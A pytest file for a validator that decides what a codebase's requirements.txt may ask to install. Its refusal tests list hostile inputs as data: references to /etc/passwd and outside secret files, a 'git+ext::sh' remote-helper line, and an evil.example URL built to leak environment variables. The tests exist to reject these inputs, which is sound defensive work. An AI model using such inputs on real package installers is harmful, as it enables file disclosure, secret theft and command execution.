"""What a codebase may ask to have installed, and what it may not."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from faas_agent.errors import StartFailed
from faas_agent.pod.host.requirements import Requirements, mask, name_of, read


@pytest.fixture
def code(tmp_path: Path) -> Path:
    folder = tmp_path / "code"
    folder.mkdir()
    return folder


def write(code: Path, text: str, name: str = "requirements.txt") -> Path:
    (code / name).parent.mkdir(exist_ok=True)
    (code / name).write_text(text)
    return code


def test_a_codebase_without_the_file_requires_nothing(code: Path) -> None:
    assert read(code) == Requirements()


def test_lines_are_taken_without_comments_blanks_and_repetitions(code: Path) -> None:
    text = (
        "\ufeff# what we need\n\nnumpy == 1.18  # old\nrequests[socks] \\\n  >=2 ; python_version<'4'\nnumpy == 1.18\n"
    )
    assert read(write(code, text)).requirements == ("numpy == 1.18", "requests[socks]    >=2 ; python_version<'4'")


def test_files_named_inside_the_codebase_are_read_in_their_place(code: Path) -> None:
    write(code, "six\n-c ../pins.txt\n", "more/all.txt")
    write(code, "attrs<30\n", "pins.txt")
    write(code, "-r more/all.txt\n--constraint=pins.txt\ntoml\n")
    assert read(code) == Requirements(("six", "toml"), ("attrs<30",))


def test_package_requirements_are_added(code: Path) -> None:
    package = [
        {"name": "numpy", "version": "1.18", "operator": ">="},
        {"name": "toml"},
        {"name": "six", "version": "1"},
    ]
    assert read(write(code, "attrs\n"), package).requirements == ("attrs", "numpy>=1.18", "toml", "six==1")


@pytest.mark.parametrize(
    "line",
    [
        "-i https://index.example.org/simple",
        "--index-url=https://index.example.org/simple",
        "--extra-index-url https://download.example.org/whl/cpu",
        "-f https://example.org/wheels.html",
        "--no-binary :all:",
        "--only-binary numpy",
        "--no-index",
    ],
)
def test_where_to_look_may_be_said(code: Path, line: str) -> None:
    option, _, value = line.replace("=", " ", 1).partition(" ")
    assert read(write(code, line + "\nsix\n")) == Requirements(("six",), (), (f"{option} {value}".strip(),))


@pytest.mark.parametrize(
    "line",
    [
        "six @ https://example.org/six-1.17.0-py3-none-any.whl",
        "https://example.org/six-1.17.0.tar.gz",
        "git+https://github.com/team/repository.git@v1.0",
        "tool @ git+https://github.com/team/repository.git@v1.0#subdirectory=tool ; python_version>'3.8'",
        "six==1.17.0 --hash=sha256:0123456789abcdef",
        "six~=1.17",
        "six (>=1.0)",
    ],
)
def test_the_usual_forms_are_taken(code: Path, line: str) -> None:
    assert read(write(code, line)).requirements == (line,)


def test_a_wheel_of_the_codebase_may_be_named(code: Path) -> None:
    wheel = write(code, "", "wheels/own-1.0-py3-none-any.whl") / "wheels/own-1.0-py3-none-any.whl"
    assert read(write(code, "./wheels/own-1.0-py3-none-any.whl\n")).requirements == (wheel.as_uri(),)
    assert read(write(code, "own @ wheels/own-1.0-py3-none-any.whl\n")).requirements == (f"own @ {wheel.as_uri()}",)


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("-e .", "importable as it is"),
        ("--editable=.", "importable as it is"),
        (".", "path of a wheel inside the codebase"),
        ("./lib", "path of a wheel inside the codebase"),
        ("../own-1.0-py3-none-any.whl", "path of a wheel inside the codebase"),
        ("/tmp/own-1.0-py3-none-any.whl", "path of a wheel inside the codebase"),
        ("own @ ../own-1.0-py3-none-any.whl", "path of a wheel inside the codebase"),
        ("own @ file:///etc/passwd", "must start with https://"),
        ("git+ext::sh", "path of a wheel inside the codebase"),
        ("git+file:///srv/repository", "must start with"),
        ("git+https://me:secret@github.com/team/repository", "everybody could read"),
        ("tool @ git+ext::https://example.org/a", "remote helper"),
        ("hg+https://example.org/a", "must start with https://"),
        ("--find-links ./wheels", "must start with https://"),
        ("--trusted-host example.org", "certificate"),
        ("--pre", "pre-release"),
        ("--target /srv", "not allowed"),
        ("--config-settings=x=y", "not allowed"),
        ("--no-index --target /srv", "not allowed"),
        ("six --install-option=x", "only --hash may follow"),
        ("six==1 --global-option='x'", "only --hash may follow"),
        ("six @ https://evil.example/${UV_INDEX_URL}", "variables are not filled in"),
        ("-i https://${USER}:${PASS}@example.org", "variables are not filled in"),
        ("-r https://example.org/requirements.txt", "file inside the codebase"),
        ("-r ../secret.txt", "file inside the codebase"),
        ("-r/etc/passwd", "file inside the codebase"),
        ("-r", "file inside the codebase"),
        ("-r requirements.txt", "include each other"),
        ("six\x00", "control characters"),
        ("opencv - python == 3.4", "only --hash may follow"),
    ],
)
def test_what_would_do_something_else_is_refused_in_words(code: Path, line: str, why: str) -> None:
    (code.parent / "secret.txt").write_text("hunter2\n")
    (code.parent / "own-1.0-py3-none-any.whl").touch()
    with pytest.raises(StartFailed, match=re.escape(why)) as caught:
        read(write(code, f"six\n{line}\n"))
    assert caught.value.reason == "install-failed"
    assert "requirements.txt line 2" in caught.value.message or "include each other" in why
    assert "secret@" not in caught.value.message


def test_a_file_that_is_a_link_to_outside_is_not_read(code: Path) -> None:
    (code.parent / "secret.txt").write_text("hunter2\n")
    (code / "requirements.txt").symlink_to(code.parent / "secret.txt")
    with pytest.raises(StartFailed, match="inside the codebase") as caught:
        read(code)
    assert "hunter2" not in caught.value.message


def test_a_file_that_is_not_text_is_refused(code: Path) -> None:
    (code / "requirements.txt").write_bytes("six\n".encode("utf-16"))
    with pytest.raises(StartFailed, match="not UTF-8"):
        read(code)


@pytest.mark.parametrize(
    "requirement",
    [
        {},
        {"name": "--index-url"},
        {"name": "a b"},
        {"name": "six", "version": "1 --pre"},
        {"name": "six", "version": 1},
        {"name": "six", "version": "1", "operator": "@"},
        {"name": "six", "version": "1", "operator": ["=="]},
    ],
)
def test_a_package_requirement_that_is_none_is_refused(code: Path, requirement: dict[str, Any]) -> None:
    with pytest.raises(StartFailed, match=re.escape("requirements[0] of the package")):
        read(code, [requirement])


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.text(max_size=60))
def test_whatever_the_file_holds_the_answer_is_lines_or_a_refusal(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    code = tmp_path_factory.mktemp("code")
    (code / "requirements.txt").write_bytes(text.encode(errors="surrogatepass"))
    try:
        found = read(code)
    except StartFailed as error:
        assert error.reason == "install-failed"
    else:
        assert not [line for line in found.requirements if line.startswith("-") or "\n" in line]


@pytest.mark.parametrize(
    ("line", "name"),
    [("Foo_Bar[x]>=1", "foo-bar"), ("a.b @ https://h/x", "a-b"), ("https://h/x", None), ("six --hash=a:b", "six")],
)
def test_a_requirement_has_a_normal_name(line: str, name: str | None) -> None:
    assert name_of(line) == name


def test_credentials_in_urls_are_not_shown() -> None:
    assert mask("get https://me:pw@host/x and https://token@h") == "get https://***@host/x and https://***@h"


def test_the_sdks_rough_reading_of_a_requirements_file_never_stands_in_its_way(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("six==1.16.0  # why\n\nfoo>=1; python_version < '3.8'\n")
    rough = [
        {"name": "six", "version": "1.16.0 ", "operator": "=="},
        {"name": ""},
        {"name": "foo", "version": "1; python_version ", "operator": ">="},
    ]
    assert read(tmp_path, rough).requirements == ("six==1.16.0", "foo>=1; python_version < '3.8'")


def test_a_package_requirement_that_cannot_be_used_is_refused_where_there_is_no_file(tmp_path: Path) -> None:
    with pytest.raises(StartFailed, match="not a version"):
        read(tmp_path, [{"name": "six", "version": "1; x", "operator": "=="}])
